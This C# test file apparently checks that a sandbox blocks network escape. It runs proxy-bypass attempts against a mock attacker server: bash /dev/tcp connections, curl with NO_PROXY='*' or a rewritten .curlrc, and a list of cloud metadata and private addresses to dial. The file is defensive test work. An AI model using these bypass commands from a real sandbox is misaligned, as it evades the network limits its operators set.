using System.Globalization;

namespace Sandbox.Integration.Tests;

/// <summary>NW-01, NW-04, NW-15, NW-21: programs that know nothing of a proxy, or will not have one, get nowhere.</summary>
public sealed class DefaultDenyTests
{
    private const string WithoutProxy = "unset HTTP_PROXY HTTPS_PROXY ALL_PROXY NO_PROXY http_proxy https_proxy all_proxy no_proxy\n";

    /// <summary>Aims at every "tcp|udp|icmp ADDRESS PORT" of its standard input; says what became of each.</summary>
    private const string Reach =
        """
        import errno, socket, sys
        for line in sys.stdin:
            kind, address, port = line.split()
            family = socket.AF_INET6 if ':' in address else socket.AF_INET
            try:
                if kind == 'icmp':
                    try:
                        s = socket.socket(family, socket.SOCK_DGRAM, 1)
                    except OSError:
                        s = socket.socket(family, socket.SOCK_RAW, 1)
                    s.settimeout(1)
                    s.sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), (address, 0))
                    answer = 'ANSWERED' if s.recv(100) else 'closed'
                else:
                    s = socket.socket(family, socket.SOCK_STREAM if kind == 'tcp' else socket.SOCK_DGRAM)
                    s.settimeout(2 if kind == 'tcp' else 0.05)
                    s.connect((address, int(port)))
                    s.send(b'GET / HTTP/1.0\r\n\r\n')
                    answer = 'ANSWERED' if s.recv(100) else 'closed'
            except socket.timeout:
                answer = 'silence'
            except OSError as e:
                answer = errno.errorcode.get(e.errno, str(e))
            print(kind, address, port, answer, flush=True)
        """;

    [TheoryWithin(120), ClassData(typeof(IdentityData))]
    public void Without_a_proxy_nothing_inside_reaches_any_address_of_the_host(Identity identity)
    {
        using Workspace workspace = Workspace.Create(identity);
        using AttackerServer server = AttackerServer.Everywhere();
        string targets = string.Join('\n', server.Targets);
        string script = Script(workspace, targets);

        string inside = workspace.Inside(script).OutputText;
        Assert.Equal([], server.Contacts);
        Assert.DoesNotContain("C2", inside, StringComparison.Ordinal);
        Assert.All(Answers(inside).Where(static a => !a.StartsWith("udp", StringComparison.Ordinal)), static a => Assert.Matches("(ENETUNREACH|ECONNREFUSED|ECONNRESET|EPERM|EACCES|closed|silence)$", a));

        // The control: the same script where the network is the host's.
        string outside = workspace.Inside(script, "--network", "host").OutputText;
        Assert.Equal(server.Targets.Order(StringComparer.Ordinal), server.Contacts.Distinct().Order(StringComparer.Ordinal));
        Assert.Equal(3, outside.Split("C2\n").Length - 1);
    }

    [TheoryWithin(60), ClassData(typeof(IdentityData))]
    public void Neither_metadata_services_nor_private_networks_nor_the_world_can_be_dialled(Identity identity)
    {
        using Workspace workspace = Workspace.Create(identity);
        string[] addresses =
        [
            "169.254.169.254", "fd00:ec2::254", "100.100.100.200", "168.63.129.16", "192.0.0.192", "10.0.0.1", "10.0.2.2", "172.16.0.1", "192.168.0.1", "100.64.0.1", "fdaa::3",
            "1.1.1.1", "8.8.8.8", "2606:4700:4700::1111", "224.0.0.251", "255.255.255.255", "::ffff:1.1.1.1",
        ];
        string targets = string.Join('\n', addresses.SelectMany(static a => new[] { $"tcp {a} 80", $"tcp {a} 443", $"udp {a} 443", $"icmp {a} 0" }));
        string[] names = ["metadata.google.internal", "_api.internal", "_instances.internal", "instance-data", "host.docker.internal", "gateway.docker.internal"];

        DateTime before = DateTime.UtcNow;
        string[] answers = Answers(workspace.Inside(Script(workspace, targets) + string.Concat(names.Select(static n => $"getent ahosts {n} && echo RESOLVED {n}\n"))).OutputText);

        Assert.Equal(addresses.Length * 4, answers.Length);
        Assert.All(answers, static a => Assert.Matches("(ENETUNREACH|EPERM|EACCES|ECONNREFUSED|ECONNRESET|EINVAL|ENODEV)$", a));
        Assert.True(DateTime.UtcNow - before < TimeSpan.FromSeconds(20), "they did not fail at once");
        string proxied = workspace.Inside(string.Concat(addresses.Select(static a =>
            $"curl -s -m5 -o /dev/null -w '%{{http_code}} ' http://{(a.Contains(':', StringComparison.Ordinal) ? $"[{a}]" : a)}/\n"))).OutputText;
        Assert.All(proxied.Split(' ', StringSplitOptions.RemoveEmptyEntries), static c => Assert.Matches("^(403|400)$", c));
        Assert.DoesNotContain("RESOLVED", string.Join('\n', answers), StringComparison.Ordinal);
    }

    [TheoryWithin(120), ClassData(typeof(IdentityData))]
    public void A_tool_that_is_told_to_use_no_proxy_fails_and_does_not_get_out(Identity identity)
    {
        using Workspace workspace = Workspace.Create(identity);
        using AttackerServer server = AttackerServer.Everywhere(knownPorts: false);
        string url = $"http://{server.Authority}";
        string[] attempts =
        [
            $"NO_PROXY='*' no_proxy='*' curl -sS -m5 {url}/a",
            $"NO_PROXY={AttackerServer.Other} no_proxy={AttackerServer.Other} curl -sS -m5 {url}/b",
            $"printf 'noproxy = *\\n' > \"$HOME/.curlrc\"; curl -sS -m5 {url}/c; rm \"$HOME/.curlrc\"",
            $"git -c http.proxy= -c http.lowSpeedTime=5 ls-remote {url}/d",
            $"JAVA_TOOL_OPTIONS=-Djava.net.useSystemProxies=false no_proxy='*' /usr/bin/python3 -c \"import urllib.request; print(urllib.request.urlopen('{url}/e').status)\"",
            $"env -i /usr/bin/python3 -c \"import urllib.request; print(urllib.request.urlopen('{url}/f').status)\"",
            $"NO_PROXY='*' bash -c 'exec 3<>/dev/tcp/{AttackerServer.Other}/{server.Port.ToString(CultureInfo.InvariantCulture)} && printf \"GET /g HTTP/1.0\\r\\n\\r\\n\" >&3 && cat <&3'",
        ];

        string script = string.Join('\n', attempts.Select(static a => $"({a}) 2>&1"));

        string inside = workspace.Inside(script).OutputText;
        Assert.Equal([], server.Contacts);
        Assert.DoesNotContain("C2", inside, StringComparison.Ordinal);

        _ = workspace.Inside(script, "--network", "host");
        Assert.All("abcdefg", path => Assert.Contains($"GET /{path}", server.Received, StringComparison.Ordinal));
    }

    private static string[] Answers(string text) =>
        [.. text.Split('\n').Where(static l => l.StartsWith("tcp ", StringComparison.Ordinal) || l.StartsWith("udp ", StringComparison.Ordinal) || l.StartsWith("icmp ", StringComparison.Ordinal) || l.StartsWith("RESOLVED", StringComparison.Ordinal))];

    private static string Script(Workspace workspace, string targets)
    {
        string reach = workspace.Write(workspace.At("project", "reach.py"), Reach);
        string list = workspace.Write(workspace.At("project", "targets"), targets + "\n");
        string authority = targets.Split('\n')[0].Split(' ')[2];
        return $$"""
            {{WithoutProxy}}
            /usr/bin/python3 {{reach}} < {{list}}
            for a in 127.0.0.1 {{AttackerServer.Other}}; do curl --noproxy '*' -s -m3 http://$a:{{authority}}/; done
            bash -c 'exec 3<>/dev/tcp/{{AttackerServer.Other}}/{{authority}} && printf "GET / HTTP/1.0\r\n\r\n" >&3 && cat <&3' | tail -1

            """;
    }
}
